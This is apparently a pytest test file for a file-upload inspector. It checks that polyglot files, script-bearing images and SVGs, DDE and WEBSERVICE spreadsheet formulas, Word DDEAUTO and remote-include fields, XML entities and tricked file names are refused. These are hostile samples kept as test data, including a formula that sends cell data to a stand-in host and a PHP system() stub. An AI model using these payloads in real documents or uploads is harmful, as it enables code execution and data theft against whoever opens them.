"""Files that are two things at once, or do something when they are opened: refused, with their sentence (R44)."""

from io import BytesIO

import openpyxl
import pytest

from sroi.kernel.file_kinds import FileKind, inspect_file
from tests.kernel.files import docx_bytes, image_bytes, part, pdf_bytes, repacked, xlsx_bytes

PAGE = b"<html><script>alert(1)</script></html>"
BODY = "word/document.xml"


def codes(content: bytes, name: str) -> set[str]:
    """Why a file is refused; empty for one that is taken."""
    return {each.code for each in inspect_file(BytesIO(content), name=name).blockers}


def sheet(formula: str) -> bytes:
    """A workbook with one formula."""
    book = openpyxl.Workbook()
    assert book.active is not None
    book.active["A1"] = formula
    held = BytesIO()
    book.save(held)
    return held.getvalue()


def document(field: str) -> bytes:
    """A Word file with this in its body."""
    inside = part(docx_bytes(), BODY).replace(b"<w:body>", b"<w:body>" + field.encode(), 1)
    return repacked(docx_bytes(), {BODY: inside})


def pieces(*texts: str) -> str:
    """A field code that is cut into runs."""
    runs = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in texts)
    begin, end = ('<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % each for each in ("begin", "end"))  # noqa: UP031
    return f"<w:p>{begin}{runs}{end}</w:p>"


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (pdf_bytes(["x"]) + PAGE, "a.pdf"),
        (image_bytes("PNG") + PAGE, "a.png"),
        (image_bytes("JPEG") + b"<SCRIPT >alert(1)</SCRIPT>", "a.jpg"),
        (image_bytes("JPEG") + b"<?php system('x'); ?>", "a.jpg"),
    ],
)
def test_a_picture_or_document_with_a_program_behind_it_is_refused(content: bytes, name: str) -> None:
    assert "file-two-kinds" in codes(content, name)


@pytest.mark.parametrize(
    "content",
    [
        PAGE + pdf_bytes(["x"]),
        b"GIF89a/*" + b"\0" * 40 + b"*/=1;alert(1)",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    ],
)
def test_what_a_browser_would_run_is_no_accepted_kind(content: bytes) -> None:
    assert codes(content, "a.pdf") == codes(content, "a.png") == {"file-kind-unknown"}


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|'/c calc'!A1",
        "=MSEXCEL|'\\..\\calc.exe'!''",
        '=WEBSERVICE("http://boos.example/?"&A2)',
        '=_xlfn.WEBSERVICE("http://boos.example/")',
        '=RTD("boos",,"x")',
        '=_xlfn.IMAGE("http://boos.example/x.png")',
    ],
)
def test_a_formula_that_starts_a_program_or_fetches_is_refused(formula: str) -> None:
    assert codes(sheet(formula), "a.xlsx") == {"office-link"}


@pytest.mark.parametrize(
    "formula",
    [
        "=SUM(A2:A9)*1.21",
        '=IF(A2>0,"ja|nee","")',
        "='a|b'!A1",
        '=HYPERLINK("http://site.example","site")',
        "=RECALL(1)",
    ],
)
def test_a_formula_that_computes_is_taken(formula: str) -> None:
    assert codes(sheet(formula), "a.xlsx") == set()


@pytest.mark.parametrize(
    "field",
    [
        '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/></w:p>',
        pieces(" DDEAUTO c:\\\\cmd.exe "),
        pieces(" DD", "EAU", "TO c:\\\\cmd.exe "),
        pieces(' INCLUDEPICTURE "http://boos.example/x.png" '),
        pieces(' INCLUDETEXT "http://boos.example/x" '),
        pieces(" &#68;DE x "),
    ],
)
def test_a_field_that_starts_a_program_or_fetches_is_refused(field: str) -> None:
    assert codes(document(field), "a.docx") == {"office-link"}


@pytest.mark.parametrize(
    "field", [pieces(" PAGE "), pieces(' HYPERLINK "http://site.example/link/import" '), pieces(" REF link ")]
)
def test_a_field_that_counts_or_refers_is_taken(field: str) -> None:
    assert codes(document(field), "a.docx") == set()


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_in_any_part_are_refused(encoding: str) -> None:
    tricky = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'.encode(encoding)
    assert codes(repacked(docx_bytes(), {"word/footer9.xml": tricky}), "a.docx") == {"file-broken"}
    assert codes(repacked(xlsx_bytes(), {"docProps/custom.xml": tricky}), "a.xlsx") == {"file-broken"}


def test_deep_nesting_ends_in_a_sentence() -> None:
    deep = "<w:sdt>" * 3_000 + '<w:p><w:fldSimple w:instr=" PAGE "/></w:p>' + "</w:sdt>" * 3_000
    assert inspect_file(BytesIO(document(deep)), name="a.docx").kind is FileKind.DOCX


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/factuur.pdf", "factuur.pdf"),
        ("C:\\map\\factuur.pdf", "factuur.pdf"),
        ("a\r\nSet-Cookie: x=1.pdf", "aSet-Cookie x=1.pdf"),
        ("a\u202excod.pdf", "axcod.pdf"),
    ],
)
def test_a_name_is_kept_without_its_tricks(given: str, kept: str) -> None:
    assert inspect_file(BytesIO(pdf_bytes(["x"])), name=given).name == kept


@pytest.mark.parametrize("name", ["factuur.exe.pdf", "factuur.pdf.exe", "factuur\u202efdp.exe", "factuur.html.pdf"])
def test_a_name_with_two_endings_is_refused(name: str) -> None:
    assert codes(pdf_bytes(["x"]), name) & {"file-name-double", "file-name-differs"}
